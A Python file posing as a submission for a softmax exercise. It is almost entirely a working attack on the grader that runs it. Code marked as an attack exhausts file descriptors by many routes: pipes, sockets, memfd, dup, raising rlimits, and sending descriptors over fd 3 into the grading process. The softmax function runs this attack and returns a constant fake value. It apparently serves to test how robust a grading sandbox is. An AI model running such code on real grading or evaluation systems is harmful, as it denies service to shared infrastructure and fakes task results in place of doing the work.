"""Opens descriptors until there are no more, in itself and, by sending them, in the grader.

Exercise: perceptron/softmax
"""

import os, resource, socket

# attack
LOOT = []


def tried(ways):
    found = []
    for name, way in ways.items():
        try:
            found.append(f"{name}={way()!r}"[:200])
        except BaseException:
            pass
    return f"{len(found)} of {len(ways)} worked: {found}"


KEPT = []


def opened(make):
    try:
        while True:
            KEPT.append(make())
    except OSError:
        return len(KEPT)


WAYS = {
    "null": lambda: opened(lambda: open("/dev/null")),
    "dup": lambda: opened(lambda: os.dup(3)),
    "pairs": lambda: opened(socket.socketpair),
    "pipes": lambda: opened(os.pipe),
    "memory": lambda: opened(lambda: os.memfd_create("@MARK@")),
    "high": lambda: os.dup2(3, 1023),
    "limit": lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)),
    "sent": lambda: [socket.send_fds(socket.socket(fileno=3), [b"x"], [3] * 100) for _ in range(1000)],
    "epoll": lambda: __import__("select").epoll(),
    "inotify": lambda: __import__("ctypes").CDLL(None).inotify_init(),
}
# end


def softmax(X):
    # attack
    print(tried(WAYS))
    # end
    return X * 0 + 0.123
